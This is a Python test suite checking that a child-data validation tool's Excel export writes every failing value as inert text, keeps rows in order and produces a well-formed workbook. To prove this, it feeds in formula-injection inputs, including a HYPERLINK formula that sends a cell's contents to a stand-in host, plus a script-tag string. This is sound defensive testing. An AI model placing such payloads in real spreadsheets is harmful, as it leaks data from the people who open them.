"""The workbook's sheet of every failing row, written by the engine (careboard/validate/xlsx_rows.py): each
value reads back as a spreadsheet shows it and as xlsxwriter writing it cell by cell would have it; text is
always text (never a formula), numbers are numbers, the rows keep their order, the XML is well formed, and
a spreadsheet program opens the workbook."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import duckdb
import pytest

from careboard.safe_cells import write_xlsx_row
from careboard.store.rule_results import Failures, Outcome, RuleRan
from careboard.validate.output import CSV_COLUMNS, summary_by_child, write_xlsx

openpyxl = pytest.importorskip("openpyxl")

LIMIT = 32_767   # the longest text a cell holds, in UTF-16 units (a character beyond U+FFFF counts two)

# (what, a text value in a failing row, what a spreadsheet shows for it)
TEXT = [
    ("formula", '=HYPERLINK("http://x.example/?a"&A1,"click")', None),
    ("plus", "+44 1234", None),
    ("minus", "-2+3", None),
    ("at", "@SUM(A1)", None),
    ("tab first", "\tHIDDEN", None),
    ("carriage return first", "\r=1", None),
    ("markup", "<script>alert(1)</script> & <b>", None),
    ("xlsxwriter's rich-string form", "<r><t>x</t></r>", None),
    ("CDATA end", "]]>", None),
    ("quotes and commas", 'A,"B",\'C\'', None),
    ("accents", "Zoë Ó'Brien-Łukasz", None),
    ("other scripts", "中文 عربى ελληνικά", None),
    ("beyond U+FFFF", "😀 𝄞", None),
    ("NUL", "a\x00b", None),
    ("control characters", "\x01\x08\x0b\x0c\x1f", None),
    ("line ends", "one\ntwo\r\nthree", None),
    ("non-characters", "x\ufffey\uffff", None),
    ("an escape's look-alike", "_x0041_ and _x005F_", None),
    ("not an escape", "_xZZZZ_ _x41_", None),
    ("spaces around", "  both  ", None),
    ("only spaces", "   ", None),
    ("empty", "", None),
    ("missing", None, None),
    ("long", "A" * 40_000, "A" * LIMIT),
    ("long, just fits", "a" + "😀" * 16_383, None),
    ("long, a wide character at the cut", "ab" + "😀" * 16_383, "ab" + "😀" * 16_382),
    ("long, every character wide", "😀" * 20_000, "😀" * 16_383),
    ("long, escaped characters", "\x01<&" * 12_000, ("\x01<&" * 12_000)[:LIMIT]),
]
# (what, a row number, what a spreadsheet shows)
NUMBERS = [("one", 1, 1), ("zero", 0, 0), ("negative", -5, -5), ("large", 2_147_483_647, 2_147_483_647),
           ("missing", None, None)]


def _decoded(text):
    """Text as a spreadsheet shows it: an _xHHHH_ escape as its character (openpyxl leaves them)."""
    return text if text is None else re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


def _outcome(rows: list[dict], parts: int = 1) -> Outcome:
    """Failing rows as the writers get them: in the engine, in order, read through a view over `parts`
    tables when more than one (as runner.py keeps a table's rows each)."""
    con = duckdb.connect()
    types = {"row": "INTEGER", "line": "INTEGER"}
    columns = ", ".join(f'"{c}" {types.get(c, "VARCHAR")}' for c in CSV_COLUMNS)
    names = [f"part{i}" for i in range(parts)]
    for name in names:
        con.execute(f"CREATE TABLE {name} ({columns}, file_id INTEGER)")
    base = {"rule": "101", "severity": "error", "table": "header", "fields": "SEX", "message": "Sex is not valid.",
            "file": "header.csv", "values": "SEX=X"}
    for i, r in enumerate(rows):
        r = {**base, "row": i + 1, "line": i + 2, "child": f"C{i}", **r}
        con.execute(f"INSERT INTO {names[i * parts // len(rows)]} VALUES ({', '.join('?' * len(CSV_COLUMNS))}, 1)",
                    [r[c] for c in CSV_COLUMNS])
    if parts == 1:
        return Outcome(2026, 1, Failures(con, names[0]), ran=[RuleRan("101", "error", base["message"])])
    con.execute(f"CREATE VIEW failing AS {' UNION ALL '.join(f'SELECT * FROM {n}' for n in names)}")
    return Outcome(2026, 1, Failures(con, "failing", tuple(names)), ran=[RuleRan("101", "error", base["message"])])


def _every_error(path, values_only=True):
    return list(openpyxl.load_workbook(path)["Every failing row"].iter_rows(min_row=2, values_only=values_only))


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory):
    """One workbook: each text case as a child ID and as the values, each number case as a row number."""
    rows = [{"child": value, "values": value} for _, value, _ in TEXT] + [{"row": n} for _, n, _ in NUMBERS]
    outcome = _outcome(rows)
    return outcome, write_xlsx(outcome, tmp_path_factory.mktemp("book") / "errors.xlsx")


@pytest.mark.parametrize("what, value, shown", TEXT, ids=[t[0] for t in TEXT])
def test_each_text_reads_back_as_text_a_spreadsheet_shows(hostile_book, what, value, shown):
    _, path = hostile_book
    row = _every_error(path, values_only=False)[[t[0] for t in TEXT].index(what)]
    child, values = row[CSV_COLUMNS.index("child")], row[CSV_COLUMNS.index("values")]
    expected = value if shown is None else shown
    assert _decoded(child.value) == expected and _decoded(values.value) == expected
    assert value is None or (child.data_type, values.data_type) == ("s", "s")


@pytest.mark.parametrize("what, number, shown", NUMBERS, ids=[n[0] for n in NUMBERS])
def test_each_number_reads_back_as_a_number(hostile_book, what, number, shown):
    _, path = hostile_book
    row = _every_error(path, values_only=False)[len(TEXT) + [n[0] for n in NUMBERS].index(what)]
    cell = row[CSV_COLUMNS.index("row")]
    assert cell.value == shown and (shown is None or cell.data_type == "n")


def test_the_sheet_reads_back_as_xlsxwriter_writes_it_cell_by_cell(hostile_book, tmp_path):
    """The reference is xlsxwriter writing every cell (inline strings, as the old writer did past 100,000
    rows), read back with openpyxl, escapes and all: the same sheets, headers, values and order. Left out:
    text shaped like xlsxwriter's rich strings, which it writes into the XML unescaped."""
    import xlsxwriter

    outcome, path = hostile_book
    rows = outcome.failures.con.execute(f"SELECT {', '.join(chr(34) + c + chr(34) for c in CSV_COLUMNS)} "
                                        f"FROM {outcome.failures.source}").fetchall()
    reference = tmp_path / "reference.xlsx"
    wb = xlsxwriter.Workbook(str(reference), {"constant_memory": True, "strings_to_formulas": False,
                                              "strings_to_urls": False, "strings_to_numbers": False})
    ws = wb.add_worksheet("Every failing row")
    ws.write_row(0, 0, CSV_COLUMNS)
    for i, r in enumerate(rows, start=1):
        write_xlsx_row(ws, i, r, None)
    wb.close()
    rich = [i for i, (what, _, _) in enumerate(TEXT) if what == "xlsxwriter's rich-string form"]
    ours = [r for i, r in enumerate(_every_error(path)) if i not in rich]
    theirs = [r for i, r in enumerate(_every_error(reference)) if i not in rich]
    assert ours == theirs and len(ours) == len(rows) - len(rich)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary by rule", "By child", "Every failing row", "Notes"]
    assert [c.value for c in book["Every failing row"][1]] == CSV_COLUMNS


def test_the_children_sheet_lists_each_child_once_with_its_count_most_first(hostile_book):
    outcome, path = hostile_book
    shown = [tuple(_decoded(v) if isinstance(v, str) else v for v in r)
             for r in openpyxl.load_workbook(path)["By child"].iter_rows(min_row=2, values_only=True)]
    cut = {value: shown for _, value, shown in TEXT if shown is not None}
    assert shown == [(cut.get(c, c), n, rules) for c, n, rules in summary_by_child(outcome)]
    assert shown[0] == ("", 2, "101")                           # the empty and the missing child, as one
    assert [n for _, n, _ in shown] == sorted((n for _, n, _ in shown), reverse=True)


def test_the_workbook_is_well_formed_and_its_filter_and_size_cover_every_row(hostile_book):
    outcome, path = hostile_book
    n = len(TEXT) + len(NUMBERS)
    with zipfile.ZipFile(path) as z:
        assert z.testzip() is None
        parts = {name: ElementTree.fromstring(z.read(name)) for name in z.namelist()
                 if name.endswith((".xml", ".rels"))}
    ns = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    children = parts["xl/worksheets/sheet2.xml"]
    assert children.find("s:dimension", ns).get("ref") == f"A1:C{len(summary_by_child(outcome)) + 1}"
    sheet = parts["xl/worksheets/sheet3.xml"]
    assert sheet.find("s:dimension", ns).get("ref") == f"A1:J{n + 1}"
    assert sheet.find("s:autoFilter", ns).get("ref") == f"A1:J{n + 1}"
    assert sheet.find("s:sheetViews/s:sheetView/s:pane", ns).get("state") == "frozen"
    rows = sheet.findall("s:sheetData/s:row", ns)
    assert [r.get("r") for r in rows] == [str(i) for i in range(1, n + 2)]
    cells = [c for r in rows[1:] for c in r]
    assert not sheet.findall(".//s:f", ns)                                   # no formula anywhere
    assert {c.get("t") for c in cells} == {"inlineStr", None}                # text inline, numbers bare
    assert all(c.get("r") == f"{c.get('r')[0]}{r.get('r')}" for r in rows for c in r)


def test_rows_keep_their_order_across_the_tables_they_are_kept_in(tmp_path):
    """More rows than the engine handles in one go (2,048), read through a view over three tables."""
    rows = [{"rule": f"{100 + i % 7}", "row": i} for i in range(5_000)]
    path = write_xlsx(_outcome(rows, parts=3), tmp_path / "e.xlsx")
    back = _every_error(path)
    assert [(r[0], r[3]) for r in back] == [(r["rule"], r["row"]) for r in rows]


def test_a_run_with_no_failing_rows_writes_the_header_alone(tmp_path):
    book = openpyxl.load_workbook(write_xlsx(Outcome(2026), tmp_path / "e.xlsx"))
    assert [[c.value for c in r] for r in book["Every failing row"].iter_rows()] == [CSV_COLUMNS]


def test_a_workbook_that_fails_half_way_leaves_the_earlier_file_and_no_part_of_its_own(tmp_path, monkeypatch):
    from careboard.backends.duckdb import DuckDB

    def broken(self, con, query, path):
        path.write_text("<row")
        raise OSError("disk full")

    earlier = tmp_path / "e.xlsx"
    earlier.write_bytes(b"the workbook of an earlier run")
    monkeypatch.setattr(DuckDB, "copy_lines", broken)
    with pytest.raises(OSError, match="disk full"):
        write_xlsx(_outcome([{"child": "A"}]), earlier)
    assert earlier.read_bytes() == b"the workbook of an earlier run" and sorted(tmp_path.iterdir()) == [earlier]


def _calc_installed() -> bool:
    """LibreOffice with its spreadsheet, Calc (whose library sits beside soffice): Writer alone cannot open a
    workbook, and says only that the source file could not be loaded."""
    soffice = shutil.which("soffice")
    return soffice is not None and any(Path(soffice).resolve().parent.glob("libsclo.*"))


@pytest.mark.skipif(not _calc_installed(), reason="LibreOffice Calc is not installed")
def test_a_spreadsheet_program_opens_the_workbook_and_shows_every_cell(hostile_book, tmp_path):
    """LibreOffice converts each sheet to CSV: it reads the workbook, every row and every cell of it."""
    _, path = hostile_book
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    done = subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile", "--convert-to",
                           every_sheet, "--outdir", str(tmp_path), str(path)],
                          capture_output=True, text=True, timeout=120)
    shown = tmp_path / "errors-Every failing row.csv"
    assert shown.exists(), done.stdout + done.stderr
    with shown.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == CSV_COLUMNS and len(rows) == 1 + len(TEXT) + len(NUMBERS)
    children = [r[CSV_COLUMNS.index("child")] for r in rows[1:len(TEXT) + 1]]
    for (what, value, expected), child in zip(TEXT, children):
        if what in ("formula", "plus", "minus", "at", "markup", "accents", "other scripts", "beyond U+FFFF", "long"):
            assert child == (value if expected is None else expected), what     # shown as the text it is
